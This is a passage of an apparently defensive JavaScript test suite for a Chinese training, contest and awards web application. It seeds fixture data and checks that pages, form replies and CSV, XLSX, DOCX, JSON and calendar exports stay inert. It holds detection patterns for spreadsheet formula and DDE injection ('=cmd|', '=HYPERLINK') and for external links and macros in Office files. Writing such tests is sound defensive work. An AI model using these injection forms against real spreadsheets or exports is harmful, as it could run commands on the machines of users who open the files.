    SELECT RANDOM_BYTES(16), id, 'advanced', '先进个人评选', '先进个人', 2026, 'prefecture', 'draft', '2026-10-31', '2027-12-31', '某号', '某局', '2026-11-01', '2027-12-31', ${colleague}, '2026-11-01', '2026-11-01' FROM unit WHERE code = 'CY'; SET @p = LAST_INSERT_ID();
    INSERT INTO programme_kind (public_id, programme_id, subject, title, places) VALUES (RANDOM_BYTES(16), @p, 'individual', '先进个人', 3); SET @k = LAST_INSERT_ID();
    INSERT INTO programme_place (kind_id, unit_id, place_no) SELECT @k, scope_unit_id, 1 FROM role_grant WHERE role = 'liaison' ORDER BY id LIMIT 1; SET @u = (SELECT unit_id FROM programme_place WHERE kind_id = @k);
    INSERT INTO programme_authority (public_id, programme_id, code, title) VALUES (RANDOM_BYTES(16), @p, 'discipline', '某机关'); SET @h = LAST_INSERT_ID();
    UPDATE programme SET state = 'approved' WHERE id = @p; UPDATE programme SET state = 'open' WHERE id = @p;
    INSERT INTO nomination (public_id, programme_id, kind_id, subject, person_id, name, deeds, statement, from_unit_id, at_unit_id, state, created_by, created_at, changed_at)
      VALUES (RANDOM_BYTES(16), @p, @k, 'individual', ${writer}, '某人', '一句话', '材料', @u, @u, 'draft', ${colleague}, '2026-11-01', '2026-11-01'); SET @n = LAST_INSERT_ID();
    INSERT INTO nomination_log (nomination_id, from_state, to_state, unit_id, reason, at) VALUES (@n, 'none', 'draft', @u, '同意', '2026-11-01');
    INSERT INTO nomination_line (nomination_id, line_no, module, kind, from_on, title, detail) VALUES (@n, 1, 'training', 'class', '2026-05-01', '刀工', '某单位');
    INSERT INTO nomination_local_notice (nomination_id, unit_id, from_on, until_on, days, place, outcome, words, created_by, created_at) VALUES (@n, @u, '2026-11-02', '2026-11-06', 5, '公告栏', 'settled', '查无实据', ${colleague}, '2026-11-08');
    INSERT INTO file (public_id, digest, size, type, name, person_id, noun, noun_id, created_at) VALUES (RANDOM_BYTES(16), RANDOM_BYTES(32), 9, 'pdf', '证明.pdf', ${colleague}, 'nomination', @n, '2026-11-01');
    INSERT INTO nomination_file (file_id, nomination_id) VALUES (LAST_INSERT_ID(), @n);
    UPDATE nomination SET state = 'recommended', quota_unit_id = @u, place_no = 1, changed_at = '2026-11-09' WHERE id = @n;
    INSERT INTO opinion_letter (public_id, programme_id, authority_id, letter_no, letter_on, created_by, created_at) VALUES (RANDOM_BYTES(16), @p, @h, '某函', '2026-11-10', ${colleague}, '2026-11-10'); SET @l = LAST_INSERT_ID();
    INSERT INTO opinion (letter_id, programme_id, authority_id, nomination_id, outcome, words) VALUES (@l, @p, @h, @n, 'disagree', '正在核查')`)
  // As it is after a decision: honours of both, a story of one's own, a revocation that was refused, seats.
  for (const trigger of ['tr_programme_decision_own', 'tr_programme_decision_added', 'tr_honour_added']) sql(`DROP TRIGGER ${trigger}`)
  sql(`INSERT INTO programme_decision VALUES (${papers.programme}, RANDOM_BYTES(16), '沧管〔2026〕12号', '2026-11-18', '某局', ${colleague}, '2026-11-18');
    INSERT INTO honour (public_id, source, programme_id, nomination_id, owner_unit_id, subject, person_id, name, unit_name, post, series, title, level, awarded_by, document_no, awarded_on, year, cause, deeds, created_by, created_at, folded, pinyin, initials)
      SELECT RANDOM_BYTES(16), 'programme', p.id, x.id, p.unit_id, 'individual', ${writer}, '某人', '某单位', '厨师', 'role_model', '最美后勤人', 'prefecture', '某局', '沧管〔2026〕12号', '2026-11-18', 2026, '事由', '事迹', ${colleague}, '2026-11-18', 'x', 'x', 'x' FROM nomination x JOIN programme p ON p.id = x.programme_id WHERE x.id IN (${own}, ${foreign});
    INSERT INTO honour_story (honour_id, words, words_version) SELECT id, '十六年', 1 FROM honour WHERE nomination_id = ${own};
    INSERT INTO honour_consent (honour_id, part, version, person_id, given_at) SELECT id, 'words', 1, person_id, '2026-11-18' FROM honour WHERE nomination_id = ${own};
    INSERT INTO honour_revocation (public_id, honour_id, state, reason, proposed_by, proposed_at) SELECT RANDOM_BYTES(16), id, 'proposed', '材料不实', ${colleague}, '2026-11-18' FROM honour WHERE nomination_id IN (${own}, ${foreign});
    UPDATE honour_revocation v JOIN honour h ON h.id = v.honour_id SET v.state = 'refused', v.answer = '查无实据', v.decided_by = (SELECT MAX(person_id) FROM role_grant WHERE role = 'leader'), v.decided_at = '2026-11-18' WHERE h.nomination_id = ${own};
    INSERT INTO ceremony VALUES (${papers.programme}, '礼堂', 2, 5, 5, ${colleague}, '2026-11-18'); INSERT INTO ceremony_batch VALUES (${papers.programme}, 1, '某领导');
    INSERT INTO ceremony_seat SELECT programme_id, id, ROW_NUMBER() OVER (ORDER BY id), 1, ROW_NUMBER() OVER (ORDER BY id), 1 FROM honour WHERE programme_id = ${papers.programme}`)
  // What the demonstration's commendations have not, see fillAwards; the hero among the reviewers, what a meeting decided, a photo, a notice that was dropped.
  const award = fillAwards(colleague)
  for (const trigger of ['tr_review_assignment_added', 'tr_review_criterion_added', 'tr_review_decision_added']) sql(`DROP TRIGGER ${trigger}`)
  // Of a programme in which the hero is not nominated: else they would review nobody in it.
  const [[nominee]] = sql("SELECT MIN(x.id) FROM nomination x JOIN programme p ON p.id = x.programme_id WHERE p.state = 'held' AND x.state = 'awarded'")
  sql(`UPDATE reviewer SET left_at = '2026-11-10', reason = '出差' ORDER BY id LIMIT 1;
    INSERT INTO reviewer (public_id, programme_id, person_id, created_by, created_at) SELECT RANDOM_BYTES(16), programme_id, ${writer}, ${award.officer}, '2026-11-01' FROM nomination WHERE id = ${nominee};
    SET @reviewer = LAST_INSERT_ID();
    INSERT INTO review_declared (reviewer_id, nomination_id, programme_id, note, declared_by, declared_at) SELECT @reviewer, MAX(y.id), x.programme_id, '同乡', ${writer}, '2026-11-02' FROM nomination x JOIN nomination y ON y.programme_id = x.programme_id WHERE x.id = ${nominee} GROUP BY x.programme_id;
    INSERT INTO review_assignment (public_id, programme_id, kind_id, nomination_id, reviewer_id, state, words, back_reason, assigned_by, assigned_at, asked_on) SELECT RANDOM_BYTES(16), programme_id, kind_id, id, @reviewer, 'open', '事迹突出', '请写明理由', ${award.officer}, '2026-11-02', '2026-11-02' FROM nomination WHERE id = ${nominee};
    INSERT INTO review_assignment_log (assignment_id, from_state, to_state, person_id, reason, at) SELECT MAX(id), 'handed', 'open', ${award.officer}, '请写明理由', '2026-11-03' FROM review_assignment;
    INSERT INTO review_decision (programme_id, nomination_id, outcome, order_no, reason, decided_by, decided_at) SELECT programme_id, id, 'order', 1, '评审会议定', ${award.officer}, '2026-11-03' FROM nomination WHERE id = ${nominee};
    INSERT INTO review_criterion (public_id, kind_id, title, guide, max_x1000, step_x1000, sort) VALUES (RANDOM_BYTES(16), ${papers.kind}, '选题', '是否切合实际', 20000, 1000, 1);
    UPDATE honour_story SET photo = X'FFD8FFD9', photo_version = 1;
    INSERT INTO honour_consent (honour_id, part, version, person_id, given_at) SELECT id, 'photo', 1, person_id, '2026-11-18' FROM honour WHERE nomination_id = ${own};
    INSERT INTO public_notice (public_id, programme_id, round_no, state, days, list_order, snapshot, snapshot_hash, prepared_by, prepared_at) SELECT RANDOM_BYTES(16), programme_id, round_no + 1, 'prepared', 5, 'stroke', snapshot, snapshot_hash, prepared_by, '2026-11-18' FROM public_notice WHERE id = ${award.posted};
    UPDATE public_notice SET state = 'dropped', reason = '名单有误' WHERE state = 'prepared'`)
  judged(sql).makeJudged(day, { people: staff.slice(0, 2), officials: [...staff.slice(2, 5).map((no) => [no, 'judge']), [staff[5], 'chief']] })
  const run = sql(`SELECT id FROM run WHERE round_id = ${day.round} AND number = 1`)[0][0] // what chief judges and judges write
  sql(`UPDATE run SET state = 'marking', version = version + 1 WHERE id = ${run}; INSERT INTO run_log (run_id, from_state, to_state, reason, at) VALUES (${run}, 'open', 'marking', '设备故障', '2026-11-18');
    INSERT INTO mark (uid, ballot_id, code, seq, kind, note, said_at, person_id, stored_at) SELECT RANDOM_BYTES(16), id, '*', 1, 'note', '砧板未分色', '2026-11-18', person_id, '2026-11-18' FROM ballot WHERE run_id = ${run};
    INSERT INTO penalty (run_id, no, step, kind, points_x1000, reason, person_id, at) SELECT ${run}, 1, 1, 'points', 1500, '超出操作区', MIN(id), '2026-11-18' FROM person;
    INSERT INTO run_value (run_id, code, value_x1000, source, person_id, reason, at) SELECT ${run}, 'time', 754000, 'chief', MIN(id), '表停早了', '2026-11-18' FROM person;
    UPDATE ballot SET return_reason = '请复核口味' WHERE run_id = ${run}; INSERT INTO ballot_log (ballot_id, from_state, to_state, reason, at) SELECT id, 'locked', 'open', '请复核口味', '2026-11-18' FROM ballot WHERE run_id = ${run}`)
  sql(`INSERT INTO board (round_id) VALUES (${day.round}); UPDATE board_clock SET n = n + 1; INSERT INTO board_version SELECT ${day.round}, 1, n, '${board(day.round, ['马兰', '单雄'])}', '2026-11-18' FROM board_clock; UPDATE board SET latest = 1 WHERE round_id = ${day.round}`)
  sql(`INSERT INTO appeal (public_id, round_id, run_id, entry_id, person_id, publication, words, state, created_at) SELECT RANDOM_BYTES(16), r.round_id, r.id, r.entry_id, m.person_id, j.publication, '对评分有异议', 'open', j.published_at + INTERVAL 1 MINUTE
    FROM judging j JOIN run r ON r.round_id = j.round_id JOIN entry_member m ON m.entry_id = r.entry_id AND m.live = 1 AND m.part <> 'reserve' JOIN person p ON p.id = m.person_id WHERE j.publication > 0 AND p.staff_no = '${hero}'`)
  for (const [edition] of sql('SELECT id FROM contest_edition WHERE id NOT IN (SELECT edition_id FROM team_rule)')) makeTeamRule(edition)
  sql("INSERT INTO setting_change (id, at, reason) VALUES (1, '2026-11-17', '上级通知')")
  sql("INSERT INTO setting (name, change_id, value, before_value) VALUES ('privacy_contact', 1, '办公室 0000-1234567', '无')")
  sql("INSERT INTO credential (person_id, login, hash, one_time, changed_at, disabled_at, disabled_kind, disabled_why) SELECT id, staff_key, 'x', 0, '2026-01-01', '2026-11-01', 'hand', '调离' FROM person WHERE id NOT IN (SELECT person_id FROM credential) ORDER BY id LIMIT 1")
  sql("INSERT INTO role_grant (public_id, person_id, role, scope_unit_id, from_on, until_on, created_at, ended_by, ended_at, end_reason) SELECT RANDOM_BYTES(16), (SELECT id FROM person ORDER BY id DESC LIMIT 1), 'leader', (SELECT id FROM unit WHERE parent_id IS NULL ORDER BY id LIMIT 1), '2026-01-01', '2026-06-01', '2026-01-01', (SELECT id FROM person ORDER BY id LIMIT 1), '2026-05-31', '分工调整'")
})

before(async () => {
  laboratory = await open({ after: (close) => closing.push(close) })
  await laboratory.evaluate(equip, { origin: url, ...known, kinds: [...kinds, ...short] })
  for (const role of roles) {
    const page = await open({ after: (close) => closing.push(close) })
    await signIn(page, role)
    cookies[role] = (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join('; ')
    await page.close()
  }
  sql(`INSERT INTO import_run (public_id, kind, person_id, file_name, format, bytes, digest, added, changed, moved, ended, same, faults, created_at, expires_at) SELECT RANDOM_BYTES(16), 'people', p.id, CONCAT('人员', g.id, '.csv'), 'csv', ${literal(`工号,姓名,单位代码\n${kinds.slice(0, 10).map((kind) => `"${kind.replaceAll('"', '""')}","${kind.replaceAll('"', '""')}",CY\n`).join('')}`)}, REPEAT('d', 32), 0, 0, 0, 0, 0, 1, '2026-11-01', '2199-01-01' FROM role_grant g JOIN person p ON p.id = g.person_id WHERE g.role IN ('hr', 'sysadmin')`)
  named = {
    run: ids('import_run', 'id'),
    course: ids('course', '(SELECT COUNT(*) FROM class c WHERE c.course_id = course.id) DESC, id'),
    class: ids('class', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
    enrolment: ids('enrolment', 'ROW_NUMBER() OVER (PARTITION BY state, step ORDER BY id)'),
    notice: ids('notice', 'id'),
    'award/notice': ids('public_notice', "state = 'dropped', id DESC"),
    'programme/letter': of('opinion_letter x JOIN programme m ON m.id = x.programme_id'),
    'programme/assignment': of('review_assignment x JOIN programme m ON m.id = x.programme_id'),
    assignment: ids('review_assignment', "back_reason = '', id"),
    'assignment/file': of('file x JOIN nomination_file a ON a.file_id = x.id JOIN review_assignment m ON m.nomination_id = a.nomination_id'),
    ...Object.fromEntries([['nomination', 'nomination m ON m.id'], ['assignment', 'review_assignment m ON m.nomination_id']].map(([name, from]) =>
      [`${name}/no`, sql(`SELECT TO_BASE64(m.public_id), l.line_no FROM nomination_line l JOIN ${from} = l.nomination_id ORDER BY l.line_no, m.id`).map(([id, no]) => `${encoded(id)}/${no}`)])),
    'nomination/file': of('file x JOIN nomination_file a ON a.file_id = x.id JOIN nomination m ON m.id = a.nomination_id'),
    'honour/file': of("file x JOIN honour m ON x.noun = 'honour' AND m.id = x.noun_id"),
    'programme/notice': of('public_notice x JOIN programme m ON m.id = x.programme_id'),
    'programme/notice/posting': sql('SELECT TO_BASE64(p.public_id), TO_BASE64(n.public_id), TO_BASE64(g.public_id) FROM notice_posting g JOIN public_notice n ON n.id = g.notice_id JOIN programme p ON p.id = n.programme_id').map((all) => all.map(encoded).join('/')),
    'programme/objection': of('objection x JOIN programme m ON m.id = x.programme_id'),
    'programme/objection/file': sql("SELECT TO_BASE64(p.public_id), TO_BASE64(o.public_id), TO_BASE64(f.public_id) FROM file f JOIN objection o ON f.noun = 'objection' AND f.noun_id = o.id JOIN programme p ON p.id = o.programme_id").map((all) => all.map(encoded).join('/')),
    code: ids('certificate', 'live, id'),
    honour: ids('honour', `COALESCE(person_id, 0) <> (SELECT id FROM person WHERE staff_no = '${hero}'), state <> 'valid', source <> 'programme', id`),
    'programme/what': ['forms', 'decision', 'letter'].flatMap((what) => ids('programme', "state <> 'selected', id").slice(0, 1).map((one) => `${one}/${what}`)),
    nomination: ids('nomination', "subject = 'paper', state <> 'draft', state <> 'awarded', id"),
    paper: ids('nomination', "subject <> 'paper', id"),
    'paper/file': of("file x JOIN paper_version v ON v.id = x.noun_id AND x.noun IN ('paper', 'paper_blind') JOIN nomination m ON m.id = v.nomination_id"),
    'programme/kind': of('programme_kind x JOIN programme m ON m.id = x.programme_id'),
    programme: ids('programme', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
    grant: ids('role_grant', 'end_reason IS NULL, id'),
    unit: ids('unit', 'id'),
    person: ids('person', 'id NOT IN (SELECT person_id FROM credential WHERE disabled_at IS NOT NULL), id'),
    correction: ids('correction', 'id'),
    posting: ids('posting', 'id'),
    edition: ids('contest_edition', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
    round: ids('contest_round', 'id NOT IN (SELECT round_id FROM board), id'),
    'edition/entry': pairs('entry x JOIN contest_edition e ON e.id = x.edition_id'),
    'edition/discipline': pairs('discipline x JOIN contest_edition e ON e.id = x.edition_id'),
    'edition/segment': pairs('segment x JOIN contest_round r ON r.id = x.round_id JOIN discipline d ON d.id = r.discipline_id JOIN contest_edition e ON e.id = d.edition_id'),
    'edition/criterion': pairs('criterion x JOIN segment s ON s.id = x.segment_id JOIN contest_round r ON r.id = s.round_id JOIN discipline d ON d.id = r.discipline_id JOIN contest_edition e ON e.id = d.edition_id'),
    'edition/round': pairs('contest_round x JOIN discipline d ON d.id = x.discipline_id JOIN contest_edition e ON e.id = d.edition_id'),
    'edition/round/official': triples('official', 'x.live = 1'),
    'edition/round/number/seat': sql("SELECT TO_BASE64(e.public_id), TO_BASE64(r.public_id), n.number, CONCAT('J', b.seat_no) FROM ballot b JOIN run n ON n.id = b.run_id JOIN contest_round r ON r.id = b.round_id JOIN discipline d ON d.id = r.discipline_id JOIN contest_edition e ON e.id = d.edition_id ORDER BY b.id").map(([edition, round, ...sheet]) => [encoded(edition), encoded(round), ...sheet].join('/')),
    'edition/round/number/seat/scan': sql("SELECT TO_BASE64(e.public_id), TO_BASE64(r.public_id), n.number, CONCAT('J', b.seat_no), TO_BASE64(s.public_id) FROM ballot_scan s JOIN ballot b ON b.id = s.ballot_id JOIN run n ON n.id = b.run_id JOIN contest_round r ON r.id = b.round_id JOIN discipline d ON d.id = r.discipline_id JOIN contest_edition e ON e.id = d.edition_id ORDER BY s.id").map(([edition, round, number, seat, scan]) => [encoded(edition), encoded(round), number, seat, encoded(scan)].join('/')),
    'edition/round/recusal': triples('recusal', '1'),
    'edition/round/number': sql('SELECT TO_BASE64(e.public_id), TO_BASE64(r.public_id), n.number FROM run n JOIN contest_round r ON r.id = n.round_id JOIN discipline d ON d.id = r.discipline_id JOIN contest_edition e ON e.id = d.edition_id ORDER BY n.id').map(([edition, round, number]) => [encoded(edition), encoded(round), number].join('/')),
    official: ids('official', 'live IS NULL, id'),
    appeal: ids('appeal', 'id'),
    pair: ids('mentorship', `mentor_id <> (SELECT id FROM person WHERE staff_no = '${hero}'), mentee_id <> (SELECT id FROM person WHERE staff_no = '${hero}'), state <> 'completed', id`),
    'pair/file': of("file x JOIN mentoring_period d ON x.noun = 'mentoring_period' AND d.id = x.noun_id JOIN mentorship m ON m.id = d.mentorship_id"),
    'pair/period': sql('SELECT TO_BASE64(m.public_id), d.period_no FROM mentoring_period d JOIN mentorship m ON m.id = d.mentorship_id ORDER BY d.id DESC').map(([pair, no]) => `${encoded(pair)}/${no}`),
    sign: ids('mentoring_sign', 'state DESC, id'),
    scenario: ids('scenario', 'id'),
    request: ids('mentorship_request', 'id'),
    mentor: ids('mentor', 'person_id'),
    'mentor/round': ids('pairing_round', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
    'mentor/round/offer': sql('SELECT TO_BASE64(r.public_id), TO_BASE64(f.public_id) FROM pairing_offer f JOIN pairing_round r ON r.id = f.round_id WHERE f.live = 1 ORDER BY f.id').map((both) => both.map(encoded).join('/')),
    drill: ids('drill', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
    format: ['csv', 'xlsx', 'json'],
    number: sql('SELECT id FROM audit ORDER BY before_json IS NULL, id DESC LIMIT 40').map(([id]) => id)
  }
})

test('every text column of the database is known: people write it, or nobody can', () => {
  const all = sql("SELECT c.table_name, c.column_name FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name) WHERE c.table_schema = 'jiangxin' AND t.table_type = 'BASE TABLE' AND c.data_type IN ('char', 'varchar', 'tinytext', 'text', 'mediumtext', 'longtext', 'json')")
  const unknown = all.filter(([table, name]) => !written[table]?.includes(name) && !fixed.words.test(name) && !fixed.codes.test(name) && !fixed.made.test(name) && !fixed.here.includes(`${table}.${name}`))
  assert.deepEqual(unknown.map((column) => column.join('.')), [], 'new columns: add them to `written` or to `fixed`')
  const gone = Object.entries(written).flatMap(([table, names]) => names.map((name) => `${table}.${name}`)).filter((column) => !all.some((one) => one.join('.') === column))
  assert.deepEqual(gone, [])
})

// What was found on the way through all pages: the forms of each role, and for each kind of page with scripts of its own that page
// on which most canaries stand.
const forms = []
const drawn = new Map()

test('SEC-O2 SEC-O5 every page of every role, in both languages', async (t) => {
  poison()
  // Every file is taken many times here: more than one person may take in a day.
  sql("INSERT INTO setting_change (id, at, reason) SELECT COALESCE(MAX(id), 0) + 1, UTC_TIMESTAMP(6), 'every file, many times' FROM setting_change")
  sql("INSERT INTO setting (name, change_id, value, before_value) SELECT 'export_per_day', MAX(id), '1000', '50' FROM setting_change")
  await renewed()
  let seen = 0
  for (const role of roles) {
    await pages(role, (answer, path, lang) => inert(answer, `${role} ${path} ${lang}`, (page) => {
      seen++
      forms.push(...page.forms)
      const kind = path.replace(/[\w-]{22}/g, ':id').replace(/\/\d+(?=\/|$)/g, '/:n')
      if (page.scripts && !(drawn.get(kind)?.marks.length >= page.marks.length)) drawn.set(kind, { role, path, marks: page.marks })
    }, lang === 'zh-CN' && typing.includes(role) ? role : null))
  }
  await looked()
  t.diagnostic(`${seen} pages, ${forms.length} kinds of forms, ${drawn.size} kinds of pages with scripts of their own`)
  assert.ok(seen > 1000 && drawn.size > 15, `${seen} pages, ${drawn.size} with scripts`)
})

test('SEC-O2 pages that scripts go on making, drawn by a real browser: nothing runs', async (t) => {
  await Promise.all(roles.map(async (role) => {
    const page = await open(t, { expect: /status of 40[34]/ })
    page.on('dialog', (dialog) => assert.fail(`a dialog: ${dialog.message()}`))
    await page.addInitScript(`(${equip})(${JSON.stringify({ origin: url, elements: [], attributes: [], kinds: [...kinds, ...short] })})`)
    await page.context().addCookies(cookies[role].split('; ').map((pair) => ({ name: pair.slice(0, pair.indexOf('=')), value: pair.slice(pair.indexOf('=') + 1), url })))
    for (const { path } of [...drawn.values(), { role, path: '/' }].filter((one) => one.role === role)) {
      await page.goto(path, { waitUntil: 'networkidle' })
      const { faults, marks, caught } = await page.evaluate(() => ({ ...window.dissect(document, false), caught: window.caught }))
      assert.equal(caught, undefined, path)
      assert.deepEqual(faults, [], `${role} ${path}, drawn`)
      note(marks, path)
    }
  }))
})

// ---- files ----

function parseCsv (text) {
  const rows = [[]]
  for (let at = 0; at < text.length;) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        assert.ok(at < text.length, 'a quote that does not end')
        if (text[at] === '"') at++
        cell += text[at]
      }
      at++
    } else while (at < text.length && !/[,\r\n]/.test(text[at])) cell += text[at++]
    rows.at(-1).push(cell)
    if (text[at] === ',') { at++; continue }
    assert.equal(text.slice(at, at + 2), '\r\n', 'a row ends in CR LF')
    at += 2
    if (at < text.length) rows.push([])
  }
  return rows
}

// The files that a route offers, each with its address: [address, answer].
async function files (role, pattern) {
  const list = []
  sql('DELETE FROM export_count') // a day's number was spent on looking at every page
  for (const path of addresses(30, role).filter((path) => pattern.test(path) && !path.endsWith('/state.json'))) { // which scripts read
    const answer = await fetched(role, path)
    if (answer.status !== 200) continue
    const disposition = answer.headers.get('content-disposition')
    assert.match(disposition, /^attachment; filename="[^"\\\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]*$/, `${path}: ${disposition}`)
    list.push([path, answer])
  }
  return list
}

test('SEC-O6 CSV: nothing for a spreadsheet to run, every cell in its row', async () => {
  const found = [...await files('training_manager', /\.csv$|\/csv$/), ...await files('contest_manager', /^\/contest.*csv$/), ...await files('trainee', /\/csv$/), ...await files('award_officer', /^\/award.*csv$/), ...await files('auditor', /^\/audit.*\/csv$/)]
  assert.ok(found.length >= 5, `${found.length} files`)
  for (const [path, { text, type }] of found) {
    assert.match(type, /^text\/csv/, path)
    assert.equal(text[0], '\ufeff', path)
    const rows = parseCsv(text.slice(1))
    for (const row of rows) {
      assert.equal(row.length, rows[0].length, `${path}: ${row}`)
      for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+@\t\r＝＋－＠]|^\s*-(?!\d+(\.\d+)?$)/, path)
    }
    note(text, path)
  }
  assert.ok(found.some(([, { text }]) => /'=cmd\|/.test(text) || /'=HYPERLINK/.test(text)), 'canaries are in them')
})

test('SEC-O6 XLSX: text cells, no formula, nothing from outside', async () => {
  const found = [...await files('training_manager', /\.xlsx$|\/xlsx$/), ...await files('contest_manager', /^\/contest.*xlsx$/), ...await files('award_officer', /^\/award.*xlsx$/), ...await files('trainee', /\/xlsx$/)]
  assert.ok(found.length >= 5, `${found.length} files`)
  for (const [path, { bytes }] of found) {
    const parts = unzip(bytes)
    assert.ok(parts['xl/worksheets/sheet1.xml'], path)
    for (const [name, text] of Object.entries(parts)) {
      assert.doesNotMatch(name, /externalLink|vbaProject|embedding|\.bin$/, path)
      assert.doesNotMatch(text, /TargetMode="External"/, `${path} ${name}`)
      await laboratory.evaluate(([text, name]) => {
        const xml = new DOMParser().parseFromString(text, 'text/xml')
        if (xml.querySelector('parsererror')) throw new Error(`${name}: ${xml.querySelector('parsererror').textContent}`)
        if (name.includes('worksheets/sheet') && xml.querySelector('f, hyperlink, script')) throw new Error(`${name}: ${xml.querySelector('f, hyperlink, script').outerHTML}`)
      }, [text, name])
    }
    note(parts['xl/sharedStrings.xml'] ?? parts['xl/worksheets/sheet1.xml'], path)
  }
})

test('SEC-O6 DOCX: text, nothing from outside', async () => {
  const found = await files('award_officer', /^\/award.*(docx|\/draft\/\w+|approval-form)$/)
  assert.ok(found.length >= 3, `${found.length} files`)
  for (const [path, { bytes }] of found) {
    const parts = unzip(bytes)
    assert.ok(parts['word/document.xml'], path)
    for (const [name, text] of Object.entries(parts)) {
      assert.doesNotMatch(name, /vbaProject|embeddings|\.bin$/, path)
      assert.doesNotMatch(text, /TargetMode="External"|<w:(instrText|altChunk|object)\b|<w:fldSimple (?!w:instr=" PAGE ")/, `${path} ${name}`)
      await laboratory.evaluate(([text, name]) => {
        const xml = new DOMParser().parseFromString(text, 'text/xml')
        if (xml.querySelector('parsererror')) throw new Error(`${name}: ${xml.querySelector('parsererror').textContent}`)
      }, [text, name])
    }
    note(parts['word/document.xml'], path)
  }
})

test('SEC-O2 JSON: what people wrote stays text', async () => {
  const found = [...await files('trainee', /\.json$/), ...await files('contest_manager', /^\/contest.*(json|file)$/), ...await files('hr', /\/record\.json$/)]
  assert.ok(found.length >= 5, `${found.length} files`)
  for (const [path, { text, type }] of found) {
    assert.match(type, /^application\/json/, path)
    assert.equal(typeof JSON.parse(text), 'object', path)
    // A rule card is published as its canonical bytes, which escape nothing but quotes, backslashes and controls; it is only ever a file to save.
    if (!path.endsWith('/card.json')) assert.doesNotMatch(text, /[<>\u2028]/, path)
    note(text, path)
  }
})

test('SEC-O2 calendar files: one event per session, no line that somebody wrote', async () => {
  const found = await files('trainee', /\.ics$/)
  assert.ok(found.length >= 3, `${found.length} files`)
  const properties = /^(BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|NAME|X-WR-CALNAME|X-WR-TIMEZONE|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|LOCATION|DESCRIPTION|URL|STATUS|SEQUENCE|TRANSP|REFRESH-INTERVAL\S*)[:;]/
  for (const [path, { text, type }] of found) {
    assert.match(type, /^text\/calendar/, path)
    assert.doesNotMatch(text.replaceAll('\r\n', ''), /[\r\n]/, path)
    const lines = text.replaceAll('\r\n ', '').split('\r\n').slice(0, -1)
    for (const line of lines) assert.match(line, properties, path)
    const count = (line) => lines.filter((one) => one === line).length
    assert.equal(count('BEGIN:VEVENT'), count('END:VEVENT'), path)
    assert.equal(count('BEGIN:VEVENT'), lines.filter((line) => /^UID[:;]/.test(line)).length, path)
    note(text, path)
  }
})

// ---- forms ----

// Every form of every page, filled with canaries and sent: what comes back, page or redirect and page, is as inert.
test('what forms show again, and what they say afterwards', async () => {
  const number = columns.push('typed')
  const typed = kinds.map((text) => text.replaceAll('#', number).replaceAll(/[\r\n\t\u2028]/g, ' ') + mark(number))
  const sent = new Set()
  let turn = 0
  for (const { role, kind, ...form } of forms) {
    if (/sign-out|language|password|sign-in/.test(form.action)) continue
    sent.add(kind)
    for (let i = 0; i < 4; i++) {
      const fields = new URLSearchParams()
      for (const field of form.fields) {
        if (/^_/.test(field.name)) fields.append(field.name, field.value)
        else if (/^(text|search|textarea|hidden)$/.test(field.type)) fields.append(field.name, typed[turn++ % typed.length])
        else if (!/^(radio|checkbox)$/.test(field.type) || field.checked) fields.append(field.name, i % 2 ? typed[turn++ % typed.length] : field.value)
      }
      const where = `${kind}, ${i}`
      const reply = form.method === 'get'
        ? await fetched(role, `${form.action}?${fields}`)
        : await fetched(role, form.action, { method: 'POST', headers: { origin: url, 'content-type': 'application/x-www-form-urlencoded' }, body: fields.toString() })
      if (reply.status === 303) {
        const location = reply.headers.get('location')
        assert.match(location, /^\/(?![/\\])[\x21-\x7e]*$/, where)
        const next = await fetched(role, location)
        if (next.type.startsWith('text/html')) await inert(next, `${where} -> ${location}`)
      } else {
        await inert(reply, where)
      }
      if (form.method === 'get') continue
      // The same for a script: JSON that no browser takes for a page.
      fields.set('_key', 'A'.repeat(20) + 'AEIMQUYcgkosw048'[i] + 'A')
      const told = await fetched(role, `/api${form.action}`, { method: 'POST', headers: { origin: url, accept: 'application/json', 'content-type': 'application/x-www-form-urlencoded' }, body: fields.toString() })
      assert.equal(told.headers.get('x-content-type-options'), 'nosniff', where)
      // What answers strangers with a page instead of leading to one, answers whoever asks with it.
      if (told.status === 200 && told.type.startsWith('text/html') && /^\/award\/(certificate|objection|notice)\b/.test(form.action)) {
        await inert(told, `script ${where}`)
        continue
      }
      assert.match(told.type, /^application\/json/, where)
      assert.equal(typeof JSON.parse(told.text), 'object', where)
      assert.doesNotMatch(told.text, /[<>\u2028]/, where)
      note(told.text, `json ${where}`)
    }
  }
  await looked()
  assert.ok(sent.size >= 8, [...sent].join('\n'))
})

test('the clash of two classes names the other, to a person and to a script', async () => {
  const csrf = /name="_csrf" value="([^"]+)"/.exec((await fetched('trainee', '/')).text)[1]
  const key = () => Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString('base64url')
  let refused = 0
  for (const id of named.class) {
    for (const api of ['', '/api']) {
      const answer = await fetched('trainee', `${api}/training/class/${id}/enrol`, { method: 'POST', headers: { origin: url, 'content-type': 'application/x-www-form-urlencoded' }, body: `_csrf=${csrf}&_key=${key()}` })
      if (api) {
        const { message } = JSON.parse(answer.text)
        refused += answer.status === 409
        note(message ?? '', 'refusals in JSON')
        assert.doesNotMatch(answer.text, /[<>\u2028]/)
      } else if (answer.status === 303) {
        await inert(await fetched('trainee', answer.headers.get('location')), `enrolling in ${id}`)
      }
    }
  }
  await looked()
  assert.ok(refused > 0)
})

// ---- and was it really there ----

test('the canaries were seen', (t) => {
  const unseen = columns.filter((name, i) => !shown.has(String(i + 1)))
  t.diagnostic(`never shown by any page yet: ${unseen.join(', ')}`)
  for (const name of ['class.note', 'class_session.topic', 'course.title', 'course.title_en', 'course.audience', 'course.summary', 'course_category.name', 'course_category.name_en',
    'instructor.name', 'notice.args', 'person.name', 'posting.post', 'standard.title', 'unit.name', 'venue.name', 'typed']) {
    assert.ok(!unseen.includes(name), `${name} came out nowhere: the test did not look where it stands`)
  }
})

